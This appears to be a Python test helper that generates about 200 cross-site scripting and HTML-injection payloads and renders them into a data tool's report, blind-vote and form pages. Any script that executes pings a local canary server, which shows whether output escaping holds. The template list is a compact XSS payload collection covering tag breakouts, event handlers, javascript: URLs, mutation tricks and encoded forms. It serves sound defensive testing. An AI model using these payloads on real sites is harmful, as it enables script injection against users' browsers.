"""Payloads: 200 texts that are markup, and the pages of ours that show them: the report, blind votes, the served form.

Where one of them is more than text, its code marks the page and calls home, or it loads something from there.
"""

from collections.abc import Mapping
from dataclasses import replace
from itertools import product
from pathlib import Path

MARK = "data-ran"  # an attribute of the page's root, set by code that ran
HOME = "http://127.0.0.1:{port}/"  # of a server on this machine that notes who asks
CODE = f"(top.document||document).documentElement.setAttribute('{MARK}',1);fetch('{HOME}');alert(1)"
TEMPLATES = (
    "<script>{code}</script>",
    "</script><script>{code}</script>",
    "</title><script>{code}</script>",
    "</style><script>{code}</script>",
    "</textarea><script>{code}</script>",
    "--><script>{code}</script>",
    "]]><script>{code}</script>",
    "<SCRIPT\n>{code}</SCRIPT\n>",
    "<script src={home}a.js></script>",
    '"><img src=x onerror="{code}">',
    '\'><img src=x onerror="{code}">',
    "<img src='{home}a.png'>",
    '<svg onload="{code}"></svg>',
    "<svg><script>{code}</script></svg>",
    '<math><mtext><style><img src=x onerror="{code}"></style></mtext></math>',
    '<iframe srcdoc="<script>{code}</script>"></iframe>',
    '<iframe src="javascript:{code}"></iframe>',
    "<iframe src='{home}'></iframe>",
    '<a href="javascript:{code}">more</a>',
    "<object data='{home}'></object>",
    "<embed src='{home}'>",
    "<link rel=stylesheet href='{home}a.css'>",
    "<style>@import url({home}b.css); * {{ background: url({home}c.png) }}</style>",
    '<span style="background:url({home}d.png)">x</span>',
    "<meta http-equiv=refresh content='0;url={home}'>",
    "<base href='{home}'>",
    "<form action='{home}'><input autofocus onfocus=\"{code}\"></form>",
    '" autofocus onfocus="{code}" x="',
    '<details open ontoggle="{code}"><summary>x</summary></details>',
    "<video src='{home}e.mp4' onerror=\"{code}\" autoplay></video>",
    '<audio src=x onerror="{code}">',
    '<body onload="{code}">',
    "<template><script>{code}</script></template><script>{code}</script>",
    "{{{{ ''.__class__ }}}} {{% raw %}} ${{{code}}} <%= 1 %>",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e",
    "&lt;script&gt;{code}&lt;/script&gt; &#60;img src=x onerror=&#34;{code}&#34;&#62;",
    "%3Cscript%3E{code}%3C/script%3E",
    "\uff1cscript\uff1e{code}\uff1c/script\uff1e",
    "<b>bold</b><br><sub>x</sub><a href='{home}'>plotly</a> %{{customdata}}",
    '<noscript><p title="</noscript><img src=x onerror={code}>">',
)
WRAPPED = ("{}", "oak {} lamp", "\"'`{}", "`{}` \u2028\u202e", "\n\t{}\x00")


def payloads(port: int) -> list[str]:
    """All of them, for a server at this port."""
    home = HOME.format(port=port)
    code = CODE.format(port=port)
    return [wrapped.format(template.format(code=code, home=home)) for template, wrapped in product(TEMPLATES, WRAPPED)]


def write_pages(folder: Path, port: int, base: Path) -> Mapping[str, Path]:
    """Each page of ours by name, with every payload in it. `base`: a small model."""
    texts = payloads(port)
    names = [" ".join(text.replace("\x00", "").split()) for text in texts]
    folder.mkdir(exist_ok=True)
    study, fitted = folder / "study", folder / "fit"
    report = _report(texts, names, base, study)
    pages = {"a study's report": study / "report.html", "report": folder / "report.html"}
    pages["report"].write_text(report, encoding="utf-8")
    pages["blind votes"] = folder / "blind.html"
    pages["blind votes"].write_text(_blind(texts), encoding="utf-8")
    pages["served page"] = folder / "served.html"
    pages["served page"].write_text(_served(texts, names, base, fitted), encoding="utf-8")
    return pages


def _table(texts: list[str], names: list[str]) -> dict[str, list[object]]:
    """Columns, classes and cells are payloads; the class follows from a word."""
    words = ("oak", "elm", "pine", "lamp")
    return {
        names[0]: [f"{text} {words[i % 4]}" for i, text in enumerate(texts)],
        names[9]: [names[50 + i % 7] for i in range(len(texts))],
        names[12]: [names[100 + i % 4] for i in range(len(texts))],
    }


def _report(texts: list[str], names: list[str], base: Path, study: Path) -> str:
    """The report of a real study, written by `compare`, and once more with payloads wherever there are sentences."""
    import warmstart
    from warmstart.data.rows.findings import Finding
    from warmstart.reporting.render import render

    made = warmstart.compare(
        _table(texts, names),
        names[12],
        study,
        base=str(base),
        regimes=("constant", "linear", "frozen"),
        seeds=1,
        trials=1,
        length=0.05,
        quiet=True,
        log=False,
    )
    advice = replace(made.advice, reason=names[1], next_step=names[2], caveats=tuple(names), also_fine=tuple(names[:9]))
    rows = made.comparison.runs[0].predictions["row"]
    return render(
        replace(made.comparison, target=names[3], cuts=tuple(texts), caveats=tuple(texts), fingerprint=names[4]),
        advice,
        examples={row: texts[i % len(texts)] for i, row in enumerate(rows)},
        findings=[Finding("leak", "warning", text, (1,), 1, text) for text in texts],
        command=" ".join(texts),
        unfinished=names[5],
    )


def _blind(texts: list[str]) -> str:
    from warmstart.reporting.blind_comparison import AnswerPair, render_pairs

    return render_pairs([AnswerPair(text, text + " a", "b " + text) for text in texts], texts[0])


def _served(texts: list[str], names: list[str], base: Path, run: Path) -> str:
    """The page of `serve`, as after a form that was sent: without the policy that the server sends beside it."""
    import warmstart
    from warmstart.inference.serve.page import render_page

    warmstart.fit(_table(texts, names), names[12], "linear", run, base=str(base), quiet=True, log=False)
    trained = warmstart.load(run)
    row = {name: texts[i] for i, name in enumerate((names[0], names[9]))}
    found = trained.predict([row])[0] | dict(zip(names, texts, strict=True))
    return render_page(trained, row, found, score="", error=texts[1], said=texts)
